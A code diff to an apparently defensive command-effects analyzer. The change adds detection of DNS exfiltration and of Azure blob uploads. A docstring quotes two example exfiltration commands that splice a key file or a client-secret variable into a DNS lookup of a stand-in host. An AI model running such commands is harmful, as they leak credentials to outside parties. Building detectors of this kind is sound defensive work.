@@ -214,10 +214,7 @@ class EffectsRun(RunState):
                 add("read", o, name)
             add("send", C.FILE_UPLOADERS[name, " ".join(ops[:2])], name)
         elif name in C.DNS_TOOLS:
-            for o in ops:
-                if "$" in o:  # data spliced into a name to resolve: DNS exfiltration
-                    host = EXPANSION.sub("", o).strip(".")
-                    add("send", host or o, name)
+            self._dns(name, ops)
         elif name in C.MAILERS:
             self._mail(inv, ops)
         elif name in C.CLOUD_COPY:
@@ -255,6 +252,16 @@ class EffectsRun(RunState):
         if stdin_targets and name not in C.DELETERS:
             for o in stdin_targets:
                 add("read", o, name)
+
+    def _dns(self, name: str, ops: list[str]) -> None:
+        """Data spliced into a name to resolve: DNS exfiltration (`dig $(cat key).x.top`,
+        `Resolve-DnsName "$env:CLIENT_SECRET.x.top"`: a secret variable is read out too)."""
+        for o in ops:
+            if "$" in o:
+                host = EXPANSION.sub("", o).strip(".")
+                self._add("send", host or o, name)
+                if _secret_var_in([o]):
+                    self._add("read", "$ENV", name)
 
     def _raw_socket(self, inv: Invocation, name: str, ops: list[str]) -> None:
         """nc, telnet, socat: what they connect to, and what they read and send."""
@@ -323,6 +330,12 @@ class EffectsRun(RunState):
         # Operands without the subcommand words and option values: `aws --profile p s3 cp
         # - s3://b/k --region x` copies stdin to s3://b/k.
         sub_words = set(inv.subcommand.split())
+        if name == "az" and {"blob", "upload"} <= sub_words:  # named by options, not operands
+            account = (values(inv.argv, "--account-name") or ["an account"])[0]
+            for source in values(inv.argv, "--file", "-f", "--source", "-s"):
+                self._add("read", source, name)
+            self._add("send", f"https://{account}.blob.core.windows.net/", name)
+            return
         files = without_values(inv, C.CLOUD_VALUE_OPTIONS)
         while files and files[0].lower() in _CLOUD_VERBS:
             files = files[1:]
